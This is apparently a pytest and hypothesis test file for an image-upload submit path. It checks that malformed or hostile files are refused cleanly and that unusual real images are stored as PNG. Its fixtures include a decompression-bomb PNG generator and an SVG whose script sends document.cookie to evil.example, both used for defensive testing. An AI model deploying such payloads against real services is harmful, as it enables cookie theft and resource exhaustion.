"""An upload corpus through ``jobs.submit``: each file refused with a clear message (and nothing
stored, no job row) or accepted, stored as a clean PNG and used by the job.

The decoder's own unit tests are in tests/imaging/test_imaging.py; here the whole submit path
is under test, with files a careless or hostile person could pick in the Reference image box.
"""

from __future__ import annotations

import io
import struct
import tomllib
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as s
from PIL import Image

from lib import jobs
from lib.core import config
from lib.engine import Engine
from tests.helpers import ROOT, run_next
from tests.reliability._hostile_helpers import PROFILE

settings.load_profile(PROFILE)
MB = 1024 * 1024


@pytest.fixture
def engine() -> Iterator[Engine]:
    eng = Engine()
    yield eng
    eng.close()


def _encode(img: Image.Image, fmt: str, **params: object) -> bytes:
    buf = io.BytesIO()
    img.save(buf, fmt, **params)
    return buf.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_claiming(width: int, height: int, idat: bytes = b"") -> bytes:
    """A PNG whose header says width x height (1-bit grey), with the given pixel data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat)
            + _chunk(b"IEND", b""))


def _bomb() -> bytes:
    """A real decompression bomb: 20,000 x 20,000 1-bit pixels, all zero, about 50 kB on disk."""
    side = 20_000
    raw = (b"\x00" * (1 + side // 8)) * side  # filter byte + packed row, 50 MB raw
    return _png_claiming(side, side, zlib.compress(raw, 9))


def _svg() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
            b"<script>fetch('//evil.example/'+document.cookie)</script></svg>")


def _photo(mode: str = "RGB", size: tuple[int, int] = (96, 64)) -> Image.Image:
    return Image.new(mode, size, "red" if mode in ("RGB", "CMYK") else 200)


def _animated_gif() -> bytes:
    frames = [Image.new("P", (64, 64), i) for i in (1, 2, 3)]
    return _encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=50,
                   loop=0)


def _png16() -> bytes:
    return _encode(Image.new("I;16", (64, 64), 40_000), "PNG")


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "zero bytes": (lambda: b"", "empty"),
    "text named .png": (lambda: b"just some notes, not a picture\n" * 20, "contains text"),
    "html named .jpg": (lambda: b"<!DOCTYPE html><html><body><img src=x></body></html>",
                        "web page"),
    "pdf named .png": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "PDF"),
    "svg with script": (_svg, "SVG is not supported"),
    "truncated png": (lambda: _encode(_photo(size=(256, 256)), "PNG")[:300], "damaged"),
    "truncated jpeg": (lambda: _encode(_photo(size=(256, 256)), "JPEG")[:400], "damaged"),
    "decompression bomb": (_bomb, "far too many pixels"),
    "20000x20000 header": (lambda: _png_claiming(20_000, 20_000), "far too many pixels"),
    "80 megapixel header": (lambda: _png_claiming(10_000, 8_000), "over the 60 megapixel limit"),
    "100 MB file": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(100 * MB), "100 MB, over the 25 MB"),
}
ACCEPTED: dict[str, tuple[Callable[[], bytes], tuple[int, int]]] = {
    "animated gif": (_animated_gif, (64, 64)),
    "cmyk jpeg": (lambda: _encode(_photo("CMYK"), "JPEG"), (96, 64)),
    "16-bit png": (_png16, (64, 64)),
    "png with alpha": (lambda: _encode(Image.new("RGBA", (80, 40), (0, 0, 255, 90)), "PNG"),
                       (80, 40)),
}


def _stored(engine: Engine) -> tuple[int, list[str]]:
    jobs_count = int(engine.db.scalar("SELECT count(*) FROM jobs"))
    return jobs_count, engine.storage.list_keys("refs/")


def _submit(engine: Engine, data: bytes) -> str:
    return jobs.submit(engine, "ann", jobs.JobSpec(prompt="like this", width=64, height=64,
                                                   reference=data))


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_bad_upload_is_refused_with_a_clear_message_and_nothing_is_kept(
    engine: Engine, name: str
) -> None:
    make, says = REFUSED[name]
    with pytest.raises(jobs.SubmitError) as refused:
        _submit(engine, make())
    message = str(refused.value)
    assert message.startswith("The reference image was refused: ") and says in message
    assert "Traceback" not in message and "PIL" not in message
    assert _stored(engine) == (0, [])


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_an_unusual_but_real_image_is_accepted_stored_as_png_and_used(
    engine: Engine, name: str
) -> None:
    make, size = ACCEPTED[name]
    job_id = _submit(engine, make())
    job = jobs.get(engine, job_id)
    assert job is not None and job.reference_key == f"refs/{job_id}.png"
    with Image.open(io.BytesIO(engine.storage.get(job.reference_key))) as ref:
        assert (ref.format, ref.size) == ("PNG", size) and ref.mode in ("RGB", "RGBA")
    assert run_next(engine) == jobs.SUCCEEDED


def test_the_browser_upload_limit_leaves_room_for_our_own_clear_message() -> None:
    """Files up to Streamlit's maxUploadSize reach lib.imaging.images, which refuses anything over
    PROMPTBOARD_MAX_UPLOAD_MB with a message saying so; bigger ones the uploader itself refuses."""
    server = tomllib.loads(Path(ROOT, ".streamlit", "config.toml").read_text())["server"]
    ours = config.load().max_upload_bytes
    assert server["maxUploadSize"] * MB >= ours
    # maxMessageSize (websocket) may be smaller: a file's bytes go over HTTP, not the websocket
    # (tests/browser/test_large_upload.py uploads one larger than it).


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=s.binary(max_size=2048), cut=s.integers(0, 400), flip=s.integers(0, 255))
def test_any_bytes_are_either_a_stored_png_or_a_refusal_that_keeps_nothing(
    engine: Engine, data: bytes, cut: int, flip: int
) -> None:
    valid = bytearray(_encode(_photo(size=(32, 32)), "PNG"))
    valid[min(cut, len(valid) - 1)] ^= flip  # a damaged real image, often still "a PNG"
    for upload in (data, bytes(valid), bytes(valid[:cut])):
        before = _stored(engine)
        try:
            job_id = _submit(engine, upload)
        except jobs.SubmitError as exc:
            assert str(exc).startswith("The reference image was refused: ")
            assert _stored(engine) == before
            continue
        key = f"refs/{job_id}.png"
        assert key in engine.storage.list_keys("refs/")
        with Image.open(io.BytesIO(engine.storage.get(key))) as ref:
            assert ref.format == "PNG"
